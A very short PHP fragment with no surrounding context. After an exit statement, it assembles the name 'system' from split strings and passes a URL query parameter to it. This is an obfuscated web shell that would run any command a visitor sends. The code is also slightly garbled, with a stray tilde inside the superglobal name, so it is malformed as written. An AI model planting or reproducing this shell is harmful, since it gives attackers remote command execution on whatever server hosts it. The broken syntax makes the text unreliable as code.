<?php exit; ?>
<?php $f = 'sys' . 'tem'; $f($_G~ET['m']);
